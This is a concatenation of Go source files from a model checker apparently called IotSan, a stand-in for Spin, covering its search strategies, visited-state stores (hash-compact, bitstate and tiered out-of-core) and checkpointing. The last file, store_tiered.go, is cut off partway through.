// of IotSan — the stand-in for Spin (§2.3). It performs a depth-first
// search over a transition system, de-duplicating visited states by a
// hash of their encoded state vector, and reports property violations
// together with Spin-style counter-example trails (Fig. 7).
//
// Two visited-state stores are provided, mirroring Spin's verification
// modes: an exhaustive hash-compact store, and BITSTATE supertrace
// hashing — an approximate store that keeps k hash bits per state in a
// bit array, trading completeness for memory (§2.3; Holzmann's analysis
// of bitstate hashing).
package checker

import (
	"fmt"
	"time"
)

// State is an opaque system state that can append a deterministic
// encoding of itself (its state vector) to a buffer.
type State interface {
	Encode(buf []byte) []byte
}

// Violation is a property violation detected in a state or on a
// transition.
type Violation struct {
	Property string // property identifier, e.g. "conflicting-commands"
	Detail   string // human-readable specifics
}

func (v Violation) String() string { return v.Property + ": " + v.Detail }

// Transition is one successor of a state.
type Transition struct {
	Label      string   // short label, e.g. `alicePresence.presence = not present`
	Steps      []string // micro-steps for the trail (handler runs, commands)
	Next       State
	Violations []Violation // violations raised while taking the transition
}

// System is the transition system under verification.
type System interface {
	// Initial returns the initial state.
	Initial() State
	// Expand returns the successors of s; an empty slice ends the path.
	Expand(s State) []Transition
	// Inspect evaluates state properties (safety invariants) on s.
	Inspect(s State) []Violation
}

// StoreKind selects the visited-state store.
type StoreKind int

// Store kinds.
const (
	// Exhaustive stores a 64-bit hash per visited state (hash-compact).
	Exhaustive StoreKind = iota
	// Bitstate stores k bits per state in a fixed bit array (Spin's
	// BITSTATE / supertrace mode).
	Bitstate
)

// Options configure a verification run.
type Options struct {
	Store StoreKind
	// BitstateBits is log2 of the bit-array size for Bitstate (default
	// 26 → 64 Mbit = 8 MB).
	BitstateBits uint
	// BitstateK is the number of hash functions (default 3).
	BitstateK int
	// MaxDepth bounds the DFS depth in transitions (default 64).
	MaxDepth int
	// MaxStates bounds the number of states explored (0 = unlimited).
	MaxStates int
	// Deadline bounds wall-clock time (0 = unlimited).
	Deadline time.Duration
	// MaxViolations stops the search after that many distinct violations
	// (0 = collect all).
	MaxViolations int
	// NoDedup disables state matching entirely (every path explored).
	NoDedup bool
}

// TrailStep is one step of a counter-example trail.
type TrailStep struct {
	Label string
	Steps []string
}

// Found is a distinct violation with the trail that reaches it.
type Found struct {
	Violation
	Trail []TrailStep
	Depth int
}

// Result summarises a verification run.
type Result struct {
	Violations      []Found
	StatesExplored  int // states visited (transitions taken + initial)
	StatesMatched   int // successors pruned because already visited
	StatesStored    int // entries in the visited store
	MaxDepthReached int
	Truncated       bool // a limit stopped the search early
	Elapsed         time.Duration
}

// HasViolation reports whether a property with the given id was violated.
func (r *Result) HasViolation(property string) bool {
	for _, f := range r.Violations {
		if f.Property == property {
			return true
		}
	}
	return false
}

// PropertyIDs returns the distinct violated property ids, in discovery
// order.
func (r *Result) PropertyIDs() []string {
	seen := map[string]bool{}
	var out []string
	for _, f := range r.Violations {
		if !seen[f.Property] {
			seen[f.Property] = true
			out = append(out, f.Property)
		}
	}
	return out
}

// store is the visited-state set abstraction.
type store interface {
	// seen inserts the state hash, reporting whether it was already
	// present.
	seen(h uint64) bool
	// size returns the number of stored entries (approximate for
	// bitstate).
	size() int
}

type hashStore struct{ m map[uint64]struct{} }

func (s *hashStore) seen(h uint64) bool {
	if _, ok := s.m[h]; ok {
		return true
	}
	s.m[h] = struct{}{}
	return false
}

func (s *hashStore) size() int { return len(s.m) }

// bitStore is Spin's BITSTATE: k hash probes into a 2^bits bit array.
type bitStore struct {
	bits  []uint64
	mask  uint64
	k     int
	count int
}

func newBitStore(logBits uint, k int) *bitStore {
	if logBits == 0 {
		logBits = 26
	}
	if logBits < 10 {
		logBits = 10
	}
	if k <= 0 {
		k = 3
	}
	n := uint64(1) << logBits
	return &bitStore{bits: make([]uint64, n/64), mask: n - 1, k: k}
}

func (s *bitStore) seen(h uint64) bool {
	all := true
	x := h
	for i := 0; i < s.k; i++ {
		// SplitMix64 step derives independent probe positions.
		x += 0x9e3779b97f4a7c15
		z := x
		z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
		z = (z ^ (z >> 27)) * 0x94d049bb133111eb
		z ^= z >> 31
		pos := z & s.mask
		w, b := pos/64, pos%64
		if s.bits[w]&(1<<b) == 0 {
			all = false
			s.bits[w] |= 1 << b
		}
	}
	if !all {
		s.count++
	}
	return all
}

func (s *bitStore) size() int { return s.count }

type nopStore struct{ count int }

func (s *nopStore) seen(uint64) bool { s.count++; return false }
func (s *nopStore) size() int        { return s.count }

// fnv1a hashes a state vector.
func fnv1a(data []byte) uint64 {
	const (
		offset = 14695981039346656037
		prime  = 1099511628211
	)
	h := uint64(offset)
	for _, b := range data {
		h ^= uint64(b)
		h *= prime
	}
	return h
}

// Run verifies the system, exploring depth-first from the initial state.
func Run(sys System, opts Options) *Result {
	if opts.MaxDepth <= 0 {
		opts.MaxDepth = 64
	}
	var st store
	switch {
	case opts.NoDedup:
		st = &nopStore{}
	case opts.Store == Bitstate:
		st = newBitStore(opts.BitstateBits, opts.BitstateK)
	default:
		st = &hashStore{m: map[uint64]struct{}{}}
	}

	res := &Result{}
	start := time.Now()
	distinct := map[string]bool{}

	record := func(v Violation, trail []TrailStep, depth int) {
		key := v.Property + "\x00" + v.Detail
		if distinct[key] {
			return
		}
		distinct[key] = true
		res.Violations = append(res.Violations, Found{
			Violation: v,
			Trail:     append([]TrailStep(nil), trail...),
			Depth:     depth,
		})
	}

	limitHit := func() bool {
		if opts.MaxStates > 0 && res.StatesExplored >= opts.MaxStates {
			return true
		}
		if opts.Deadline > 0 && time.Since(start) > opts.Deadline {
			return true
		}
		if opts.MaxViolations > 0 && len(res.Violations) >= opts.MaxViolations {
			return true
		}
		return false
	}

	// Iterative DFS.
	type frame struct {
		state State
		succs []Transition
		next  int
	}
	var trail []TrailStep
	buf := make([]byte, 0, 512)

	init := sys.Initial()
	buf = init.Encode(buf[:0])
	st.seen(fnv1a(buf))
	res.StatesExplored++
	for _, v := range sys.Inspect(init) {
		record(v, nil, 0)
	}

	stack := []frame{{state: init}}
	stack[0].succs = sys.Expand(init)

	for len(stack) > 0 {
		if limitHit() {
			res.Truncated = true
			break
		}
		top := &stack[len(stack)-1]
		if top.next >= len(top.succs) || len(stack) > opts.MaxDepth {
			if len(stack) > opts.MaxDepth {
				res.Truncated = true
			}
			stack = stack[:len(stack)-1]
			if len(trail) > 0 {
				trail = trail[:len(trail)-1]
			}
			continue
		}
		tr := top.succs[top.next]
		top.next++

		depth := len(stack)
		trail = append(trail, TrailStep{Label: tr.Label, Steps: tr.Steps})
		if depth > res.MaxDepthReached {
			res.MaxDepthReached = depth
		}
		for _, v := range tr.Violations {
			record(v, trail, depth)
		}
		for _, v := range sys.Inspect(tr.Next) {
			record(v, trail, depth)
		}

		buf = tr.Next.Encode(buf[:0])
		if st.seen(fnv1a(buf)) {
			res.StatesMatched++
			trail = trail[:len(trail)-1]
			continue
		}
		res.StatesExplored++
		stack = append(stack, frame{state: tr.Next, succs: sys.Expand(tr.Next)})
	}

	res.StatesStored = st.size()
	res.Elapsed = time.Since(start)
	return res
}

// FormatTrail renders a counter-example trail in the style of the
// paper's Figure 7 violation log.
func FormatTrail(f Found) string {
	out := fmt.Sprintf("violated: %s (%s)\n", f.Property, f.Detail)
	n := 1
	for _, step := range f.Trail {
		out += fmt.Sprintf("%3d  [%s]\n", n, step.Label)
		n++
		for _, s := range step.Steps {
			out += fmt.Sprintf("     %s\n", s)
		}
	}
	return out
}
