// Package checker is the explicit-state safety model checker at the core
// of IotSan — the stand-in for Spin (§2.3). It explores a transition
// system from its initial state, de-duplicating visited states by a
// hash of their encoded state vector, and reports property violations
// together with Spin-style counter-example trails (Fig. 7).
//
// The search is organised as an engine with pluggable strategies:
//
//   - StrategyDFS (default) is a single-goroutine iterative depth-first
//     search, the direct analogue of Spin's sequential verifier. It
//     threads the counter-example trail through the DFS stack, so trails
//     follow the depth-first exploration order exactly.
//   - StrategyParallel is a level-synchronous parallel breadth-first
//     frontier search in the spirit of Holzmann's multi-core Spin:
//     worker goroutines claim states from the current frontier, expand
//     them concurrently, and deduplicate through a lock-striped sharded
//     visited store. Counter-example trails are reconstructed from
//     per-state parent links instead of a threaded trail slice.
//
// Two visited-state stores are provided, mirroring Spin's verification
// modes: an exhaustive hash-compact store, and BITSTATE supertrace
// hashing — an approximate store that keeps k hash bits per state in a
// bit array, trading completeness for memory (§2.3; Holzmann's analysis
// of bitstate hashing). Both come in a sequential flavour and a
// concurrency-safe flavour (mutex-striped shards for the hash store,
// atomic bit operations for the bit array) selected by the strategy.
package checker

import (
	"fmt"
	"sync/atomic"
	"time"
)

// State is an opaque system state that can append a deterministic
// encoding of itself (its state vector) to a buffer.
//
// States handed to the checker must be immutable once returned from
// System.Initial or a Transition: the parallel strategy encodes and
// expands states from multiple goroutines without synchronisation.
type State interface {
	Encode(buf []byte) []byte
}

// Violation is a property violation detected in a state or on a
// transition.
type Violation struct {
	Property string // property identifier, e.g. "conflicting-commands"
	Detail   string // human-readable specifics
}

func (v Violation) String() string { return v.Property + ": " + v.Detail }

// Transition is one successor of a state.
//
// Systems that implement Replayer may return transitions in lazy-trail
// form: Steps nil (and possibly Label empty) with a non-zero Key. The
// engine then regenerates the micro-steps — and the label, when empty —
// only when a counter-example trail is actually materialized, keeping
// fmt-formatting entirely off the exploration hot path.
type Transition struct {
	Label      string   // short label, e.g. `alicePresence.presence = not present`
	Steps      []string // micro-steps for the trail (handler runs, commands)
	Key        uint64   // opaque replay handle for lazy trails (0 = none)
	Next       State
	Violations []Violation // violations raised while taking the transition
	// Fault marks an environment fault transition (device outage,
	// delayed/dropped command) injected by a fault-aware system; the
	// engine counts explored fault transitions separately in the result.
	Fault bool
}

// Replayer is optionally implemented by Systems whose transitions are
// deterministic re-executions: Replay re-runs the transition identified
// by key from its source state and returns the trail label, the
// micro-steps, and the successor state. The engine calls it only when a
// violation's trail is materialized, replaying forward along the trail
// (the successor feeds the next step's replay), so trail storage needs
// only keys — neither formatted steps nor retained source states.
// Replay must be safe for concurrent calls (it is re-execution through
// Expand's machinery, which already carries that contract).
type Replayer interface {
	Replay(from State, key uint64) (label string, steps []string, next State)
}

// Reducer is optionally implemented by Systems that support partial-order
// reduction. Reduce examines one expansion — the state and its full
// successor list — and returns the indices of a persistent subset of the
// transitions: a set whose members are mutually closed under dependence
// and independent of every transition outside it that could execute
// before them, so exploring only the subset from this state preserves
// every reachable distinct violation. A nil (or full-length) return
// means no reduction applies and the engine expands every transition.
//
// Reduce must be a pure function of the state: all strategies must see
// the same reduced graph or cross-strategy equivalence breaks. The
// engine additionally applies a visited-state proviso before committing
// to a subset (see Options.POR) unless the reducer certifies progress,
// so Reduce itself does not need access to the visited store.
type Reducer interface {
	Reduce(s State, trs []Transition) []int
}

// CanonicalEncoder is optionally implemented by Systems that support
// symmetry reduction. CanonicalEncode appends a canonical encoding of
// the state: two states that are equivalent under the system's symmetry
// group (e.g. a permutation of interchangeable devices) must produce
// identical canonical encodings, and two inequivalent states must not.
// With Options.Symmetry set, the engine derives every visited-store
// digest — including the partial-order-reduction proviso's probes, so a
// symmetry-folded state counts as visited for the cycle proviso — from
// the canonical encoding instead of State.Encode. Everything else (the
// frontier, parent-link trails, expansion, replay) keeps operating on
// raw states, so reported counter-example trails replay as concrete
// executions of the unreduced model: the stored representative of each
// orbit is the first raw state that reached it, and the parent edge
// recorded for it replays from that raw state.
//
// CanonicalEncode must be safe for concurrent calls on distinct states
// (same contract as Expand/Inspect).
//
// Systems may additionally implement HasSymmetry() bool to report
// whether canonicalization is non-trivial for this model; when it
// returns false the engine ignores the encoder entirely — digests take
// the raw path and the work-stealing strategy keeps its depth
// relaxation (which must be disabled under a real fold, where a
// duplicate hit is only isomorphic, not byte-identical, to the stored
// representative).
type CanonicalEncoder interface {
	CanonicalEncode(s State, buf []byte) []byte
}

// IncrementalDigester is optionally implemented by Systems whose states
// carry a block-hash cache: IncrementalDigest returns the (h1, h2)
// visited-store digest of s computed from cached per-block hashes
// (re-encoding only blocks the producing transition dirtied), with
// canonical selecting the symmetry-canonical fold. When HasIncremental
// reports true the engine derives every digest through it instead of
// encode-then-hash; the digest must induce the same state equivalence
// as hashing the (canonical) encoding — equal-encoding states must
// collide and distinct encodings must collide no more often than the
// flat hash would. The first digest of a state mutates its cache
// (refreshing dirty blocks), so the engine's contract is that each
// state object is digested by the goroutine that produced it before
// the state is shared; all three strategies satisfy this by digesting
// children where they are expanded.
type IncrementalDigester interface {
	IncrementalDigest(s State, canonical bool) (h1, h2 uint64)
	HasIncremental() bool
}

// StateRecycler is optionally implemented by Systems that can reuse
// dead state objects: Recycle hands back a state the search has proven
// unreachable from any live structure — a duplicate child that matched
// the visited store, a successor clipped by the depth bound before it
// was ever digested, or a fully expanded frame popped off the DFS
// stack. The system may then recycle the state's backing storage into
// future Expand clones, which removes most of the allocation (and GC)
// cost of the expansion hot path. The engine only recycles states it
// obtained from Expand/Initial of the same run and never touches one
// again afterwards; recorded trails are materialized eagerly and drop
// their state references before any of those states can be recycled.
type StateRecycler interface {
	// Recycle retires s to the model's free-list. The state must not
	// be touched afterwards (enforced by the recyclelive analyzer).
	//
	//iotsan:retires s
	Recycle(s State)
}

// TransitionRecycler is optionally implemented by Systems alongside
// StateRecycler: strategies hand back a successor slice once every
// entry has been consumed (explored, matched, or recycled), letting the
// system reuse the backing array for later Expand calls. Only the
// array is reused — Steps and Label values copied out of entries (e.g.
// into trail steps) remain valid because they own their storage.
type TransitionRecycler interface {
	// RecycleTransitions retires the backing array of trs; the slice
	// must not be read again (enforced by the recyclelive analyzer).
	//
	//iotsan:retires trs
	RecycleTransitions(trs []Transition)
}

// DeltaCodec is optionally implemented by Systems whose states have the
// block-structured encoding (internal/model's PR 6 layout): DeltaEncode
// appends a delta of child's encoding against parent's — a dirty-block
// mask plus the bytes of only the blocks that differ — and DeltaApply
// reconstructs child's full flat encoding from parent plus such a
// delta. The checkpoint writer spills DFS stack states in this form
// (states on a stack differ from their parent by the few blocks one
// transition dirtied), and resume uses DeltaApply as the integrity
// cross-check that the re-expanded stack matches the spilled one.
type DeltaCodec interface {
	DeltaEncode(child, parent State, buf []byte) []byte
	DeltaApply(parent State, delta []byte, buf []byte) ([]byte, error)
}

// ProgressCertifier is optionally implemented by Reducers that can
// prove no cycle of the reduced state graph traverses a reduced-subset
// transition — e.g. because every subset transition strictly decreases
// a well-founded measure of the state that nothing outside the subset
// can increase. For such reducers the ignoring problem cannot arise
// structurally, and the engine skips the visited-state proviso: this
// matters because in heavily confluent (diamond-shaped) state spaces
// the reduced successor is usually already visited through an
// equivalent interleaving, and falling back there would forfeit exactly
// the reductions partial order reduction exists for. Reducers that do
// not certify progress get the conservative proviso instead.
type ProgressCertifier interface {
	CertifiesProgress() bool
}

// System is the transition system under verification.
//
// Expand and Inspect must be safe for concurrent calls on distinct
// states: the parallel strategy invokes them from several goroutines at
// once. Implementations must treat the receiver and the argument state
// as read-only, cloning into fresh successor states.
type System interface {
	// Initial returns the initial state.
	Initial() State
	// Expand returns the successors of s; an empty slice ends the path.
	Expand(s State) []Transition
	// Inspect evaluates state properties (safety invariants) on s.
	Inspect(s State) []Violation
}

// StoreKind selects the visited-state store.
type StoreKind int

// Store kinds.
const (
	// Exhaustive stores a 64-bit hash per visited state (hash-compact).
	Exhaustive StoreKind = iota
	// Bitstate stores k bits per state in a fixed bit array (Spin's
	// BITSTATE / supertrace mode).
	Bitstate
	// Tiered is the out-of-core exhaustive store: a hot in-process
	// sharded tier bounded by Options.MemBudget, a file-backed bitstate
	// filter, and an on-disk open-addressed hash tier under
	// Options.StoreDir. Membership semantics are identical to the
	// in-memory exhaustive store (hash-compact, keyed on the digest's
	// first hash); the extra tiers only change where cold fingerprints
	// live. Requires StoreDir.
	Tiered
)

func (k StoreKind) String() string {
	switch k {
	case Bitstate:
		return "bitstate"
	case Tiered:
		return "tiered"
	}
	return "exhaustive"
}

// ParseStore maps a command-line store name to its kind.
func ParseStore(name string) (StoreKind, error) {
	switch name {
	case "", "exhaustive", "hash", "hash-compact":
		return Exhaustive, nil
	case "bitstate", "supertrace":
		return Bitstate, nil
	case "tiered", "out-of-core", "ooc":
		return Tiered, nil
	}
	return Exhaustive, fmt.Errorf("checker: unknown store %q (want exhaustive, bitstate, or tiered)", name)
}

// StrategyKind selects the search strategy.
type StrategyKind int

// Strategies.
const (
	// StrategyDFS is the sequential iterative depth-first search
	// (default). Trails and exploration order are deterministic.
	StrategyDFS StrategyKind = iota
	// StrategyParallel is the parallel breadth-first frontier search:
	// Options.Workers goroutines expand the frontier concurrently over a
	// sharded visited store. The distinct-violation set matches
	// StrategyDFS on a fully explored state space; trails are
	// reconstructed from parent links and may differ between runs.
	StrategyParallel
	// StrategySteal is the work-stealing frontier search: per-worker
	// Chase–Lev deques (owner LIFO, thieves FIFO) with no per-level
	// barrier, over the same sharded visited store and parent-link
	// trails as StrategyParallel. The distinct-violation set and
	// explored state space match StrategyDFS on a fully explored state
	// space; exploration order and trails may differ between runs.
	StrategySteal
)

func (k StrategyKind) String() string {
	switch k {
	case StrategyParallel:
		return "parallel"
	case StrategySteal:
		return "steal"
	}
	return "dfs"
}

// ParseStrategy maps a command-line strategy name to its kind.
func ParseStrategy(name string) (StrategyKind, error) {
	switch name {
	case "", "dfs", "sequential":
		return StrategyDFS, nil
	case "parallel", "bfs", "frontier":
		return StrategyParallel, nil
	case "steal", "ws", "work-stealing":
		return StrategySteal, nil
	}
	return StrategyDFS, fmt.Errorf("checker: unknown strategy %q (want dfs, parallel, or steal)", name)
}

// Options configure a verification run.
type Options struct {
	Store StoreKind
	// Strategy selects the search strategy (StrategyDFS default).
	Strategy StrategyKind
	// Workers is the number of expansion goroutines for
	// StrategyParallel and StrategySteal (0 = GOMAXPROCS). Ignored by
	// StrategyDFS.
	Workers int
	// Budget, when non-nil, bounds the run's worker goroutines by a
	// token pool shared with other concurrent verification runs. The
	// caller must hold one token for the run's first worker (the
	// admission token) before calling Run and release it afterwards;
	// the strategies claim additional tokens up to Workers with
	// TryAcquire and release every claimed token before Run returns.
	Budget *WorkerBudget
	// Stop, when non-nil, is a cooperative global cancellation flag:
	// once set, all strategies stop at their next limit check and mark
	// the result truncated. The iotsan group scheduler uses it to cancel
	// sibling related-set searches when a global violation cap is hit.
	Stop *atomic.Bool
	// StoreDir is the scratch directory of the Tiered store (its filter
	// and disk-tier files) and of the write-ahead checkpoint log. The
	// tier files are recreated per run; only the WAL carries state
	// across a restart. Required for Tiered and for Checkpoint.
	StoreDir string
	// MemBudget approximately bounds the resident bytes of the Tiered
	// store's hot tier; beyond it, the coldest fingerprints spill
	// write-behind to the disk tier (0 = a generous default). Digests
	// retired through epoch reclamation are preferred spill candidates,
	// so eviction ordering follows epoch order on the frontier
	// strategies.
	MemBudget int64
	// Checkpoint enables write-ahead checkpointing on StrategyDFS:
	// every CheckpointEvery explored states the engine appends the
	// visited-set delta and a delta-encoded snapshot of the DFS stack
	// to StoreDir's WAL, so a killed search can resume. Ignored (with
	// the WAL left untouched) on the frontier strategies and under an
	// uncertified partial-order reducer, whose visited-state proviso
	// makes re-expansion store-dependent and a rebuilt stack unsound.
	Checkpoint bool
	// Resume restarts a checkpointed search from StoreDir's last
	// durable checkpoint instead of from the initial state. A missing,
	// corrupt, or configuration-mismatched WAL falls back to a fresh
	// search (the WAL is truncation-tolerant: a kill mid-append resumes
	// from the previous intact checkpoint).
	Resume bool
	// CheckpointEvery is the number of explored states between
	// checkpoints (default 4096).
	CheckpointEvery int
	// BitstateBits is log2 of the bit-array size for Bitstate (default
	// 26 → 64 Mbit = 8 MB).
	BitstateBits uint
	// BitstateK is the number of hash functions (default 3).
	BitstateK int
	// MaxDepth bounds the search depth in transitions (default 64).
	MaxDepth int
	// MaxStates bounds the number of states explored (0 = unlimited).
	MaxStates int
	// Deadline bounds wall-clock time (0 = unlimited).
	Deadline time.Duration
	// MaxViolations stops the search after that many distinct violations
	// (0 = collect all).
	MaxViolations int
	// NoDedup disables state matching entirely (every path explored).
	NoDedup bool
	// POR enables partial-order reduction when the system implements
	// Reducer: at each expansion the engine asks the system for a
	// persistent subset of the enabled transitions and explores only
	// that subset. A visited-state proviso guards against the ignoring
	// problem: a reduced subset is accepted only if at least one of its
	// successors is a new (unvisited) state, otherwise the engine falls
	// back to the full expansion — so no transition can be postponed
	// around a cycle forever and no violation is masked. All strategies
	// explore the same reduced graph (Reduce is a pure function of the
	// state), preserving the cross-strategy equivalence guarantees.
	POR bool
	// Symmetry enables symmetry reduction when the system implements
	// CanonicalEncoder: the visited store (and the parent-link table
	// keyed off the same digests) stores canonical state keys, folding
	// states that are permutations of interchangeable components into
	// one representative, while raw states continue to flow through the
	// frontier and trails so counter-examples replay concretely. All
	// strategies share the one expansion/digest path, so the folded
	// state graph is identical across DFS, parallel, and steal, and the
	// reduction composes with POR (canonical keys also serve the
	// visited-state proviso).
	Symmetry bool
	// NoEpochReclaim disables state recycling on the frontier strategies
	// (StrategyParallel and StrategySteal). The zero value keeps it ON:
	// dead duplicate children are recycled where they are produced, and
	// consumed, fully expanded frontier states are retired through a
	// per-worker epoch-based reclamation layer (see reclaim.go) before
	// re-entering the system's free-lists. The flag is an A/B escape
	// hatch mirroring the -epoch-reclaim CLI default; it does not affect
	// the sequential DFS free-lists, which predate it, nor the recycling
	// of partial-order-pruned successors, which never escape their
	// expansion on any strategy.
	NoEpochReclaim bool
}

// TrailStep is one step of a counter-example trail. From/Key carry the
// lazy-trail replay handle while a trail is under construction; the
// engine resolves them into Label/Steps when a violation is recorded.
// From may be nil on steps after the first: materialization replays
// forward, threading each step's successor into the next.
type TrailStep struct {
	Label string
	Steps []string
	From  State  // source state of the step (lazy trails; nil = use the replayed predecessor)
	Key   uint64 // replay handle (lazy trails only)
}

// Found is a distinct violation with the trail that reaches it.
type Found struct {
	Violation
	Trail []TrailStep
	Depth int
}

// Result summarises a verification run.
type Result struct {
	Violations     []Found
	StatesExplored int // states visited (transitions taken + initial)
	StatesMatched  int // successors pruned because already visited
	StatesStored   int // entries in the visited store
	// MaxDepthReached is strategy-flavoured: DFS reports the deepest
	// stack depth of its (deterministic) exploration order and the
	// level-synchronous strategy the deepest level that generated
	// successors, both counting edges into already-visited states;
	// StrategySteal reports the deepest stored state's minimal depth —
	// the order-independent fixpoint of its depth relaxation — so the
	// value is deterministic across runs and worker counts but can sit
	// one below the other strategies' on graphs whose deepest edges
	// only re-enter visited states.
	MaxDepthReached int
	Truncated       bool // a limit stopped the search early
	Elapsed         time.Duration

	// PORChoicePoints counts expansions where partial-order reduction
	// replaced the full enabled set with a persistent subset;
	// PORPrunedTransitions is the total number of transitions those
	// expansions skipped; PORFallbacks counts expansions where a
	// candidate subset was rejected by the visited-state proviso.
	PORChoicePoints      int
	PORPrunedTransitions int
	PORFallbacks         int

	// FaultTransitionsExplored counts explored transitions flagged as
	// environment faults (Transition.Fault) — zero on fault-free models.
	FaultTransitionsExplored int

	// Store carries the tiered store's per-tier counters (zero-valued
	// for the in-memory stores).
	Store StoreStats
}

// StoreStats is the per-tier observability of a Tiered-store run.
type StoreStats struct {
	HotHits       int64 // duplicate hits answered by the in-process tier
	DiskHits      int64 // duplicate hits answered by the disk tier
	FilterRejects int64 // disk probes skipped by a filter negative
	StoredNew     int64 // fingerprints admitted as new
	Spilled       int64 // fingerprints moved from the hot to the disk tier
	H1Collisions  int64 // disk hits whose second hash disagreed (hash-compact aliases)
	PeakResident  int64 // peak hot-tier entries
	// CheckpointBytes is the total WAL bytes written by this run's
	// checkpoints (zero with checkpointing off).
	CheckpointBytes int64
	// Checkpoints counts durable checkpoints taken; Resumed marks a run
	// that restarted from one.
	Checkpoints int64
	Resumed     bool
}

// HasViolation reports whether a property with the given id was violated.
func (r *Result) HasViolation(property string) bool {
	for _, f := range r.Violations {
		if f.Property == property {
			return true
		}
	}
	return false
}

// PropertyIDs returns the distinct violated property ids, in discovery
// order.
func (r *Result) PropertyIDs() []string {
	seen := map[string]bool{}
	var out []string
	for _, f := range r.Violations {
		if !seen[f.Property] {
			seen[f.Property] = true
			out = append(out, f.Property)
		}
	}
	return out
}

// Run verifies the system with the strategy selected in opts.
func Run(sys System, opts Options) *Result {
	if opts.MaxDepth <= 0 {
		opts.MaxDepth = 64
	}
	e := newEngine(sys, opts)
	var s strategy
	switch opts.Strategy {
	case StrategyParallel:
		s = &parallelBFS{workers: opts.Workers}
	case StrategySteal:
		s = &workSteal{workers: opts.Workers}
	default:
		s = &sequentialDFS{}
	}
	s.search(e)
	return e.finish()
}

// FormatTrail renders a counter-example trail in the style of the
// paper's Figure 7 violation log.
func FormatTrail(f Found) string {
	out := fmt.Sprintf("violated: %s (%s)\n", f.Property, f.Detail)
	n := 1
	for _, step := range f.Trail {
		out += fmt.Sprintf("%3d  [%s]\n", n, step.Label)
		n++
		for _, s := range step.Steps {
			out += fmt.Sprintf("     %s\n", s)
		}
	}
	return out
}
