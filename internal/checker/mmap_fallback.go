//go:build !unix

package checker

import (
	"errors"
	"os"
)

// mapFile on platforms without a usable mmap reports failure; the
// tiered store then falls back to a heap-resident table flushed to the
// file on close (see mappedFile). Semantics are unchanged — only the
// out-of-core residency is lost.
func mapFile(f *os.File, size int) ([]byte, func() error, error) {
	return nil, nil, errors.New("mmap unavailable")
}

func bytesToWords(b []byte) []uint64 { return nil }
