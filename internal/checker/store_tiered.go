package checker

import (
	"encoding/binary"
	"fmt"
	"os"
	"path/filepath"
	"sync"
	"sync/atomic"
)

// Tiered out-of-core visited store.
//
// Three tiers behind the one store interface, all keyed by the engine's
// canonical 128-bit digest (engine.digest is the single funnel, so no
// tier ever sees a state — only fingerprints):
//
//	hot    lock-striped in-process shards (h1 → h2) bounded by
//	       Options.MemBudget; the working set of recent fingerprints.
//	filter a file-backed bit array whose k probe positions derive from
//	       h1 alone. A fingerprint's bits are set when it spills, so a
//	       filter negative proves the disk tier cannot contain it and
//	       the common fresh-state lookup never touches the disk table.
//	disk   an open-addressed hash-table file of 16-byte (h1, h2)
//	       records. Membership compares h1 only — exactly the
//	       hash-compact semantics of the in-memory exhaustive stores,
//	       so a tiered run explores the identical state graph; h2 is
//	       stored as a collision diagnostic (StoreStats.H1Collisions).
//
// Spill is write-behind: eviction candidates (budget-pressure FIFO per
// shard, plus digests the reclamation layer retires — see
// reclaimer.drain) queue to a single spiller goroutine that writes the
// disk record and filter bits first and only then deletes the hot
// entry. A fingerprint is therefore always findable in hot ∪ disk, and
// because every lookup checks the hot shard and the filter under the
// same shard lock the spiller deletes under, the spill of a digest can
// never race a concurrent seen of the same digest into a false "new".
//
// The tier files are per-run scratch (recreated on open): crash
// durability lives entirely in the checkpoint WAL, which rebuilds the
// store from logged visit digests on resume.

// tieredShards is the hot tier's lock-stripe count: enough that the
// frontier strategies rarely contend, few enough that per-shard FIFO
// rings stay cheap.
const tieredShards = 64

// tieredShard is one hot-tier stripe: the fingerprint map plus a FIFO
// ring of insertion order for budget-pressure eviction (ring entries
// whose fingerprint already spilled are skipped lazily).
//
//iotsan:padded
type tieredShard struct {
	mu   sync.Mutex
	m    map[uint64]uint64 // h1 → h2
	ring []uint64          // h1 insertion order; head..len(ring) live
	head int
	// mutex(8) + map(8) + slice(24) + int(8) = 48; pad to a cache line
	// so neighbouring shards' hot mutexes never false-share.
	_ [16]byte
}

// tieredBudgetDefault is the hot-tier entry budget when MemBudget is
// unset; tieredEntryBytes the approximate resident cost of one hot
// entry (map bucket share + ring slot).
const (
	tieredBudgetDefault = 1 << 20
	tieredEntryBytes    = 64
	tieredMinBudget     = 512
)

type tieredStore struct {
	shards [tieredShards]tieredShard
	budget int64 // max hot-tier entries
	filter *bitFilter
	disk   *diskTable

	resident atomic.Int64
	peak     atomic.Int64
	// evictCursor round-robins budget-pressure eviction over shards so
	// no one stripe is drained preferentially.
	evictCursor atomic.Uint64

	spillCh chan digest
	spillWG sync.WaitGroup

	hotHits   atomic.Int64
	diskHits  atomic.Int64
	filterNeg atomic.Int64
	stored    atomic.Int64
	spilled   atomic.Int64
	h1Collide atomic.Int64
}

// newTieredStore opens the tier files under dir (recreating them — the
// tiers are scratch; the WAL is the durable artifact) and starts the
// write-behind spiller.
func newTieredStore(dir string, memBudget int64) (*tieredStore, error) {
	if dir == "" {
		return nil, fmt.Errorf("checker: tiered store requires a store directory")
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, fmt.Errorf("checker: tiered store: %w", err)
	}
	budget := int64(tieredBudgetDefault)
	if memBudget > 0 {
		budget = memBudget / tieredEntryBytes
		if budget < tieredMinBudget {
			budget = tieredMinBudget
		}
	}
	filter, err := newBitFilter(filepath.Join(dir, "filter.bits"))
	if err != nil {
		return nil, err
	}
	disk, err := newDiskTable(dir)
	if err != nil {
		filter.close()
		return nil, err
	}
	ts := &tieredStore{budget: budget, filter: filter, disk: disk,
		spillCh: make(chan digest, 4096)}
	for i := range ts.shards {
		ts.shards[i].m = make(map[uint64]uint64)
	}
	ts.spillWG.Add(1)
	go ts.spiller()
	return ts, nil
}

// seen implements the store contract with hash-compact semantics
// identical to hashStore/shardedHashStore: membership is keyed on h1.
// The whole decision runs under one shard lock; the spiller sets the
// filter bit and the disk record before deleting a hot entry (also
// under this lock), so a digest mid-spill is found in whichever tier
// currently holds it.
func (ts *tieredStore) seen(d digest) bool {
	sh := &ts.shards[d.h1>>58&(tieredShards-1)]
	sh.mu.Lock()
	if _, ok := sh.m[d.h1]; ok {
		sh.mu.Unlock()
		ts.hotHits.Add(1)
		return true
	}
	if ts.filter.maybeContains(d.h1) {
		if h2, ok := ts.disk.lookup(d.h1); ok {
			sh.mu.Unlock()
			ts.diskHits.Add(1)
			if h2 != d.h2 {
				ts.h1Collide.Add(1)
			}
			return true
		}
	} else {
